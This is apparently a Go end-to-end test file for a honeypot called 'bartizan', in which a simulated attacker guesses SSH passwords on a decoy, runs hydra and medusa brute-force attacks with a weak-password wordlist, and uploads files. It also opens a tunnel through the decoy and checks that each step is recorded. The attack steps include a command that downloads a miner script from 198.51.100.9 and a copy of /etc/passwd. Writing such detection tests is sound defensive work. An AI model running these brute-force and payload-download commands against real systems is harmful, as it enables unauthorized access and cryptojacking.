package e2e

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bartizan/internal/model"
)

// sshOptions make OpenSSH forget and ask for nothing.
func sshOptions() []string {
	return []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "GlobalKnownHostsFile=/dev/null",
		"-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=10", "-o", "LogLevel=ERROR", "-F", "/dev/null"}
}

// sshWith runs ssh, scp or sftp with a password.
func sshWith(t *testing.T, a *attacker, password, stdin, tool string, args ...string) result {
	t.Helper()
	words := append([]string{"-p", password, tool}, append(sshOptions(), args...)...)
	return a.runWith(t, 40*time.Second, strings.NewReader(stdin), nil, "sshpass", words...)
}

// guess finds a password as attackers do: a weak one is let in after some
// that were refused.
func guess(t *testing.T, a *attacker) (password string) {
	t.Helper()
	refused := 0
	for _, p := range []string{"letmein", "dragon", "master", "sunshine", "shadow", "123456", "password", "root", "admin", "toor"} {
		r := sshWith(t, a, p, "", "ssh", "root@"+node4, "echo in-$((40+2))")
		switch {
		case r.code == 0 && strings.Contains(r.out, "in-42"):
			if refused < 3 {
				t.Errorf("the decoy gave in after %d guesses", refused)
			}
			return p
		case r.code == 5: // sshpass: wrong password
			refused++
		default:
			t.Fatalf("ssh with a guessed password: %s", r)
		}
	}
	t.Fatalf("%d passwords were refused", refused)
	return ""
}

func sshSession(t *testing.T, n *node, a *attacker) {
	password := guess(t, a)
	r := sshWith(t, a, password, "", "ssh", "root@"+node4, "uname -a; id; cat /etc/os-release | grep -c NAME; cd /tmp && wget http://198.51.100.9/xmrig.sh -O x.sh")
	contains(t, "exec over ssh", r.out, "Linux", "uid=0(root)")
	if r := sshWith(t, a, password, "", "ssh", "root@"+node4, "exit 7"); r.code != 7 {
		t.Errorf("exit 7 in the shell: %s", r)
	}
	if r := sshWith(t, a, password, "one\ntwo\nthree\n", "ssh", "root@"+node4, "grep t | wc -l"); strings.TrimSpace(r.out) != "2" {
		t.Errorf("standard input through a pipe: %s", r)
	}
	// A real terminal on this side, a pty on the other.
	line := fmt.Sprintf("sshpass -p %s ssh %s -tt root@%s", password, strings.Join(sshOptions(), " "), node4)
	p := a.runWith(t, 40*time.Second, typist("whoami\n", "echo $((6*7)) > /tmp/n; cat /tmp/n\n", "nproc; crontab -l\n", "exit\n"), []string{"TERM=xterm"}, "script", "-qefc", line, "/dev/null")
	contains(t, "terminal over ssh", p.out, "root@", "whoami\r\n", "\nroot\r\n", "42\r\n")
	list := n.awaitSignals(t, a.ip, "auth.brute-force", "access.login", "command.", "file.download-url", "command.discovery")
	if urls := related(list, model.TypeURL); len(urls) != 1 || urls[0] != "http://198.51.100.9/xmrig.sh" {
		t.Errorf("download URLs %v", urls)
	}
	n.awaitRelated(t, a.ip, model.TypeHASSH)
	// What repeats is told in growing intervals, of 40 s at most by now.
	eventually(t, 60*time.Second, "the transcript of the terminal", func() error {
		if all := n.evidence(t, n.signals(t, a.ip)); !strings.Contains(all, "cat /tmp/n") {
			return fmt.Errorf("evidence: %s", tail(all))
		}
		return nil
	})
}

// typist types line by line, slower than a pipe would.
func typist(lines ...string) *slowReader { return &slowReader{lines: lines} }

// slowReader hands out a line per read, a moment apart.
type slowReader struct{ lines []string }

func (s *slowReader) Read(p []byte) (int, error) {
	<-time.After(700 * time.Millisecond)
	if len(s.lines) == 0 {
		return 0, io.EOF
	}
	n := copy(p, s.lines[0])
	s.lines = s.lines[1:]
	return n, nil
}

// sshUploads: files brought by scp (both protocols) and sftp are kept byte for
// byte, and come back.
func sshUploads(t *testing.T, n *node, a *attacker) {
	password := guess(t, a)
	dir := t.TempDir()
	ways := []struct {
		name   string
		upload func(file string) result
	}{
		{"scp-legacy", func(f string) result { return sshWith(t, a, password, "", "scp", "-O", f, "root@"+node4+":/tmp/a") }},
		{"scp-sftp", func(f string) result { return sshWith(t, a, password, "", "scp", "-s", f, "root@"+node4+":/tmp/b") }},
		{"sftp", func(f string) result {
			return sshWith(t, a, password, "", "sftp", "-o", "BatchMode=no", "-b", script(t, dir, "put "+f+" /tmp/c\nls -l /tmp/c\n"), "root@"+node4)
		}},
	}
	for i, w := range ways {
		content := append([]byte("\x7fELF\x02\x01\x01\x00"+strings.Repeat("\x00", 8)), make([]byte, 40_000+i)...)
		if _, err := rand.Read(content[16:]); err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(dir, w.name)
		if err := os.WriteFile(file, content, 0o755); err != nil {
			t.Fatal(err)
		}
		if r := w.upload(file); r.code != 0 {
			t.Errorf("%s: %s", w.name, r)
			continue
		}
		sum := sha256.Sum256(content)
		n.awaitCapture(t, a.ip, hex.EncodeToString(sum[:]), content)
	}
	back := filepath.Join(dir, "back")
	if r := sshWith(t, a, password, "", "scp", "-s", "root@"+node4+":/etc/passwd", back); r.code != 0 {
		t.Errorf("download: %s", r)
	} else if b, _ := os.ReadFile(back); !strings.Contains(string(b), "root:") {
		t.Errorf("the decoy's passwd came as %q", b)
	}
}

func script(t *testing.T, dir, text string) string {
	t.Helper()
	file := filepath.Join(dir, "batch")
	write(t, file, text)
	return file
}

// awaitCapture waits for a file in the signals about a visitor and compares
// what "bartizan evidence" writes.
func (n *node) awaitCapture(t *testing.T, addr, sha string, content []byte) {
	t.Helper()
	// Repeats of one kind are summed up, so a later file is told of later.
	eventually(t, 25*time.Second, "the upload "+sha[:12], func() error {
		list := n.signals(t, addr)
		for _, s := range list {
			if strings.HasPrefix(s.Kind, "file.dropped") && strings.Contains(strings.Join(related([]model.Signal{s}, model.TypeSHA256), " "), sha) {
				return nil
			}
		}
		return fmt.Errorf("files %v in %v", related(list, model.TypeSHA256), kindsOf(list))
	})
	if r := n.cli(t, "evidence", sha); r.code != 0 || r.out != string(content) {
		t.Errorf("evidence %s: exit %d, %d bytes of %d; %s", sha, r.code, len(r.out), len(content), r.err)
	}
}

// sshForward: a tunnel through the decoy is recorded and leads nowhere.
func sshForward(t *testing.T, n *node, a *attacker) {
	password := guess(t, a)
	words := append([]string{"-p", password, "ssh"}, append(sshOptions(), "-N", "-L", "127.0.0.1:7777:192.0.2.10:80", "root@"+node4)...)
	p := a.start(t, command("sshpass", words...))
	defer p.kill()
	eventually(t, 20*time.Second, "the local end of the tunnel listens", func() error {
		if r := a.run(t, 5*time.Second, "ss", "-Hltn"); !strings.Contains(r.out, ":7777") {
			return fmt.Errorf("listening: %q, ssh says %s", r.out, p.err)
		}
		return nil
	})
	if r := a.run(t, 15*time.Second, "curl", "-sS", "-m", "10", "http://127.0.0.1:7777/"); r.code == 0 && strings.Contains(r.out, "<") {
		t.Errorf("the decoy relayed a request: %s", r)
	}
	n.awaitSignals(t, a.ip, "proxy.ssh-tunnel")
}

// wordlist is a list of passwords that ends with one that opens the decoys.
func wordlist(t *testing.T) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "words")
	write(t, file, strings.Join([]string{"letmein", "dragon", "master", "sunshine", "shadow", "princess", "123456", "root", "admin", "password"}, "\n")+"\n")
	return file
}

// bruteForced: a tool that guesses is seen as such, and what it guessed is kept.
func bruteForced(t *testing.T, n *node, a *attacker) {
	t.Helper()
	list := n.awaitSignals(t, a.ip, "auth.attempt", "auth.brute-force")
	for _, s := range list {
		if s.Kind == "auth.brute-force" && (s.Severity < model.High || len(s.Evidence) == 0) {
			t.Errorf("brute force: severity %s, %d pieces of evidence", s.Severity, len(s.Evidence))
		}
	}
}

func hydraSSH(t *testing.T, n *node, a *attacker) {
	r := a.run(t, 2*time.Minute, "hydra", "-I", "-l", "root", "-P", wordlist(t), "-t", "4", "-f", "ssh://"+node4)
	contains(t, "hydra", r.out, "login: root", "1 valid password found")
	bruteForced(t, n, a)
	n.awaitSignals(t, a.ip, "access.login")
}

func hydraTelnet(t *testing.T, n *node, a *attacker) {
	r := a.run(t, 2*time.Minute, "hydra", "-I", "-l", "root", "-P", wordlist(t), "-t", "1", "-f", "telnet://"+node4)
	contains(t, "hydra", r.out, "login: root")
	bruteForced(t, n, a)
}

func medusaSSH(t *testing.T, n *node, a *attacker) {
	r := a.run(t, 2*time.Minute, "medusa", "-h", node4, "-u", "root", "-P", wordlist(t), "-M", "ssh", "-t", "1", "-f")
	contains(t, "medusa", r.out, "ACCOUNT FOUND: [ssh]", "User: root")
	bruteForced(t, n, a)
}

func medusaTelnet(t *testing.T, n *node, a *attacker) {
	r := a.run(t, 3*time.Minute, "medusa", "-h", node4, "-u", "root", "-P", wordlist(t), "-M", "telnet", "-t", "1", "-f")
	contains(t, "medusa", r.out, "ACCOUNT FOUND: [telnet]")
	bruteForced(t, n, a)
}
